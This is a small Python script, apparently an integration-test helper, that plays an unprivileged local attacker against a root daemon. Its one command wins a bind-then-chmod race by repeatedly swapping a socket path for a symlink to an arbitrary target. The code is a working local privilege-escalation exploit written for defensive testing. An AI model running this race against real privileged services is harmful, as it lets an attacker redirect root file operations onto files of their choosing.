"""What a local user with no privileges does to a root daemon, one command per attack; run by the integration tests.

  swap-socket DIR TARGET SECONDS   replace DIR/s with a link to TARGET whenever it is a socket (the bind-then-chmod race)
"""
import os
import stat
import sys
import time


def swap_socket(directory, target, seconds):
    path = os.path.join(directory, "s")
    link = os.path.join(directory, ".l")
    deadline = time.monotonic() + float(seconds)
    swaps = 0
    while time.monotonic() < deadline:
        try:
            if stat.S_ISSOCK(os.lstat(path).st_mode):
                try:
                    os.unlink(link)
                except FileNotFoundError:
                    pass
                os.symlink(target, link)
                os.rename(link, path)
                swaps += 1
        except OSError:
            pass
    print(f"swapped {swaps}", flush=True)


def main(argv):
    commands = {"swap-socket": swap_socket}
    if len(argv) < 2 or argv[1] not in commands:
        print(__doc__, file=sys.stderr)
        return 2
    return commands[argv[1]](*argv[2:]) or 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
